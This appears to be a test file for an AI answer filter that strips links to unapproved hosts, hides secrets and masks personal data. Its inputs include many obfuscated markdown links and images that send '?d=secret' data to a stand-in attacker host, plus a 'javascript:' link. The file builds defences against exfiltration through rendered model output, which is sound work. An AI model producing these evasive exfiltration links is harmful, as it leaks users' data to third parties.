import { describe, expect, it } from "vitest";
import { defaultTenantPolicy, type TenantPolicy } from "../tenant-policy.ts";
import type { Evidence } from "../turn.ts";
import { createOutputFilter } from "./create-output-filter.ts";

function policyWith(guards: Partial<TenantPolicy["guards"]>): TenantPolicy {
  return { ...defaultTenantPolicy, guards: { ...defaultTenantPolicy.guards, ...guards } };
}

const open = policyWith({ linkHosts: ["docs.example.com", "*.trusted.example"] });
const strict = policyWith({ linkHosts: ["docs.example.com"], masksPersonalDataInAnswers: true });

function filtered(deltas: string[], policy = open, evidence: Evidence[] = []): string {
  const filter = createOutputFilter({ policy, evidence });
  return deltas.map((delta) => filter.push(delta)).join("") + filter.end();
}

const key = `sk-${"aB3dE5gH7jK9".repeat(3)}`;
const pem = `-----BEGIN RSA PRIVATE KEY-----\n${"MIIEpAIBAAKCAQEA7Zq3".repeat(90)}\n-----END RSA PRIVATE KEY-----`;

/** What a model writes, and what of it is shown. */
const answers: [name: string, written: string, shown: string, policy?: TenantPolicy][] = [
  ["plain text and marks", "Two years [1], or three [2][3]. Fine!", "Two years [1], or three [2][3]. Fine!"],
  [
    "a link to an allowed host",
    "See [it](https://docs.example.com/a?b=c) now.",
    "See [it](https://docs.example.com/a?b=c) now.",
  ],
  [
    "a link to a host under an allowed one",
    "[x](https://a.trusted.example/y)",
    "[x](https://a.trusted.example/y)",
  ],
  ["a link to another host", "See [it](https://evil.example/?d=secret) now.", "See [it] (evil.example) now."],
  ["a picture from another host", "![chart](https://evil.example/p.png?d=secret)", "![chart] (evil.example)"],
  ["a link with a title", '[a](https://evil.example/?d=1 "title") b', "[a] (evil.example) b"],
  ["an address on the next line", "[a](\nhttps://evil.example/?d=1) b", "[a] (evil.example) b"],
  ["an address in angle brackets", "[a](<https://evil.example/?d=1>) b", "[a] (evil.example) b"],
  [
    "an address that only looks allowed",
    "[a](https://docs.example.com@evil.example/?d=1)",
    "[a] (evil.example)",
  ],
  ["an address behind a backslash", "[a](https:\\\\evil.example/?d=1)", "[a] (link removed)"],
  ["an address with an entity", "[a](https&#58;//evil.example/?d=1)", "[a] (link removed)"],
  ["an address without a scheme", "[a](//evil.example/?d=1)", "[a] (link removed)"],
  [
    "an address after a mark that is dropped",
    "[a]【9】(https&#58;//evil.example/?d=1)",
    "[a]【9】 (link removed)",
  ],
  ["an address with marks in it that are dropped", "https:[9]//evil.example/?d=1", "link removed"],
  ["an address with other marks in it", "https【9】://evil.example/?d=1", "link removed"],
  ["a path with a mark in it that is dropped", "![a](/[9]/evil.example/?d=1)", "![a] (link removed)"],
  ["a script", "[a](javascript:alert(1))", "[a] (link removed)"],
  ["a bare address", "Go to https://evil.example/?d=secret, please.", "Go to evil.example, please."],
  [
    "a bare address without a scheme",
    "Go to www.evil.example/?d=secret, please.",
    "Go to evil.example, please.",
  ],
  ["an autolink", "Go to <https://evil.example/?d=secret>.", "Go to <evil.example>."],
  ["a bare address in italics", "_https://evil.example/?d=secret_", "_evil.example_"],
  ["one without a scheme in italics", "_www.evil.example/?d=secret_", "_evil.example_"],
  ["a mail address with words in italics", "_mailto:a@evil.example?body=secret_", "_a@evil.example_"],
  [
    "one without a scheme behind a sign",
    "/www.evil.example/?d=1 .www.evil.example/?d=1",
    "/evil.example .evil.example",
  ],
  [
    "an address in an address with marks in it",
    "https:[9]//a.example/—/https://evil.example/?d=secret",
    "link removed",
  ],
  ["a bare address behind a number", "9https://evil.example/?d=secret", "9evil.example"],
  ["a bare address with an entity", "See https&#58;//evil.example/?d=secret.", "See evil.example."],
  ["a bare address of entities", "&#x68;ttps:&sol;/evil.example/?d=secret", "evil.example"],
  ["one without a scheme with an entity", "www&period;evil.example/?d=secret", "evil.example"],
  ["a bare address with an escape", "https:\\//evil.example/?d=secret", "evil.example"],
  [
    "entities that are none of an address",
    "R&D, A &amp; B, 5 &#60; 6 \\* 7",
    "R&D, A &amp; B, 5 &#60; 6 \\* 7",
  ],
  ["a definition", "[a]: https://evil.example/?d=secret\n\n[b][a]", "[a]: evil.example\n\n[b][a]"],
  [
    "an address in a block of code",
    "Run:\n```bash\ncurl -X POST https://api.example.com/v1/users?id=7\n```\nDone.",
    "Run:\n```bash\ncurl -X POST hxxps://api.example.com/v1/users?id=7\n```\nDone.",
  ],
  [
    "an address in a span of code",
    "Call `GET http://api.example.com/v1`, not http://api.example.com/v2.",
    "Call `GET hxxp://api.example.com/v1`, not api.example.com.",
  ],
  [
    "a link in code, which may be none",
    "`[a](https://evil.example/?d=1) ![b](<https://evil.example/?d=2>)\n",
    "`[a](hxxps://evil.example/?d=1) ![b](<hxxps://evil.example/?d=2>)\n",
  ],
  ["a definition in code", "```\n[a]: https://evil.example/?d=1\n", "```\n[a]: hxxps://evil.example/?d=1\n"],
  [
    "an address in code as JSON has it, and one with several values",
    '`"https:\\/\\/api.example.com\\/v1"` `https://api.example.com/?a=1&b=2`',
    '`"hxxps:\\/\\/api.example.com\\/v1"` `hxxps://api.example.com/?a=1&b=2`',
  ],
  [
    "addresses of other programs in code",
    "`postgres://db.example/app?a=1` and\n```sh\naws s3 cp s3://bucket/a.csv git+https://git.example/r .\n```\n",
    "`postgresxx://db.example/app?a=1` and\n```sh\naws s3 cp s3xx://bucket/a.csv git+hxxps://git.example/r .\n```\n",
  ],
  ["an address with www in code", "`curl https://www.api.example/a`", "`curl hxxps://wxw.api.example/a`"],
  ["an address whose scheme is a host in code", "`www.evil.example://a`", "`a`"],
  ["an address with www more than once", "https://www.www.evil.example/?d=1", "evil.example"],
  [
    "an address with names in brackets in code",
    "`GET https://api.example.com/items?filter[name]=x&page[size]=9` `http://[::1]:8080/a`",
    "`GET hxxps://api.example.com/items?filter[name]=x&page[size]=9` `hxxp://[::1]:8080/a`",
  ],
  [
    "a password in an address of another program in code",
    "`postgres://app:hunter2secret@db.example/x`",
    "`postgresxx://app:[address with a password hidden]@db.example/x`",
  ],
  [
    "an address in code with numbers in brackets",
    "`https://a.example/w[9]ww.evil.example`",
    "`a.example]ww.evil.example`",
  ],
  ["a scheme put together by a mark that is dropped", "http[9]s://evil.example/?d=1", "http[9]evil.example"],
  ["the same in code", "`http[9]s://evil.example/?d=1`", "`http[9]sxx://evil.example/?d=1`"],
  [
    "hosts put together by marks that are dropped",
    "w[9]ww.evil.example/?d=1 ww【9】w.evil.example/?d=2 w【 9 】w[9]w.evil.example/?d=3",
    "link removed link removed link removed",
  ],
  ["an address in an address in code", "`https://a.example/https://evil.example/?d=1`", "`a.example`"],
  ["an address in code with marks in it", "`https:[9]//evil.example/?d=1`", "`link removed`"],
  ["an allowed host in code", "`https://docs.example.com/a?b=c`", "`https://docs.example.com/a?b=c`"],
  [
    "a password in an address in code",
    "`https://app:hunter2secret@db.example/x`",
    "`hxxps://app:[address with a password hidden]@db.example/x`",
  ],
  [
    "a definition in a quotation and in a list",
    "> [a]: //evil.example/?d=secret\n\n- [b]: //evil.example/?d=secret\n",
    "> [a]: link removed\n\n- [b]: link removed\n",
  ],
  ["code that looks like a link", "call handlers[i](event) here", "call handlers[i](event) here"],
  ["an issued key", `The key is ${key}.`, "The key is [API key hidden]."],
  ["a private key", `Here:\n${pem}\nThat's it.`, "Here:\n[private key hidden]\nThat's it."],
  ["a password", "Use password: Tr0ub4dor&3 to sign in.", "Use password: [password hidden] to sign in."],
  ["a password in an address", "postgres://app:hunter2secret@db", "db"],
  [
    "a word about passwords",
    "Your password: required, and longer than 8 characters.",
    "Your password: required, and longer than 8 characters.",
  ],
  ["personal data where the policy leaves it", "Write to ann@example.com.", "Write to ann@example.com."],
  ["an e-mail address", "Write to ann@example.com.", "Write to [e-mail address hidden].", strict],
  [
    "a card number in groups",
    "Card 4111 1111 1111 1111 is valid.",
    "Card [card number hidden] is valid.",
    strict,
  ],
  [
    "an account number in groups",
    "Pay to GB82 WEST 1234 5698 7654 32 today.",
    "Pay to [bank account hidden] today.",
    strict,
  ],
  ["a phone number", "Call +49 30 1234 5678 now.", "Call [phone number hidden] now.", strict],
  [
    "a postal address",
    "Send it to 221 Baker Street, London today.",
    "Send it to [postal address hidden] today.",
    strict,
  ],
  [
    "a date of birth",
    "She was born on 12 March 1984 in Rome.",
    "She was born on [date of birth hidden] in Rome.",
    strict,
  ],
  [
    "numbers that are nobody's",
    "In 2023 we sold 1,200,000 units at 19.99 for 12 months.",
    "In 2023 we sold 1,200,000 units at 19.99 for 12 months.",
    strict,
  ],
  ["a language without spaces", "保修期为两年[1]。请参阅手册。", "保修期为两年[1]。请参阅手册。", strict],
];

describe("the output filter", () => {
  it.each(answers)("shows %s as it should be", (_, written, shown, policy) => {
    expect(filtered([written], policy)).toBe(shown);
  });

  it.each(answers)("shows %s the same wherever the text is cut", (_, written, shown, policy) => {
    for (let at = 1; at < written.length; at += written.length > 500 ? 97 : 1)
      expect(filtered([written.slice(0, at), written.slice(at)], policy), `cut at ${at}`).toBe(shown);
    expect(filtered([...written], policy)).toBe(shown);
  });

  it("holds back no more than the last word of plain text", () => {
    const filter = createOutputFilter({ policy: open });
    expect(filter.push("The warranty lasts two ye")).toBe("The warranty lasts two ");
    expect(filter.push("ars. ")).toBe("years. ");
    expect(filter.push("保修期为两年")).toBe("保修期为两年");
  });

  it("leaves addresses as text that stand in the evidence, and those alone", () => {
    const text = "Apply at https://hr.example.org/leave?form=7 in time.";
    const evidence = [{ n: 1, chunk: { text } }] as Evidence[];
    const written = "[Apply](https://hr.example.org/leave?form=7) or https://hr.example.org/leave?form=8.";
    expect(filtered([written], open, evidence)).toBe(
      "[Apply] (https://hr.example.org/leave?form=7) or hr.example.org.",
    );
  });

  it("doesn't leave them where a reader's program would take in what stands behind them", () => {
    const text = 'Apply at https://hr.example.org/leave, or fetch("https://hr.example.org/api").then(show)';
    const evidence = [{ n: 1, chunk: { text } }] as Evidence[];
    const shown = (written: string) => filtered([written], open, evidence);
    for (const sign of [")", '"', "]", ")—", "'", "<"]) {
      expect(shown(`https://hr.example.org/leave${sign}secret.`)).not.toContain("https");
      expect(shown(`[Apply](https://hr.example.org/leave)${sign}secret.`)).not.toContain("https");
    }
    for (const written of ["(https://hr.example.org/leave)[1][2].", text])
      expect(shown(written)).toBe(written);
  });

  it("goes on after a text that broke off", () => {
    const filter = createOutputFilter({ policy: open });
    const first = filter.push("See [it](https://evil.exam");
    expect(first + filter.end()).not.toContain("https");
    expect(filter.push("Next sentence. ")).toContain("Next sentence. ");
  });

  it("says what it found, without the text", () => {
    const filter = createOutputFilter({ policy: strict });
    filter.push(`ann@example.com bob@example.com ${key} [a](https://evil.example/x)`);
    filter.end();
    expect(filter.findings()).toEqual([
      { finding: "personal-data", what: "e-mail address", count: 2 },
      { finding: "secret", what: "API key", count: 1 },
      { finding: "link", what: "evil.example", count: 1 },
    ]);
  });

  it("gives no text without an end more than its limit", () => {
    const filter = createOutputFilter({ policy: strict });
    expect(filter.push("x".repeat(5_000)).length).toBeGreaterThan(0);
  });
});
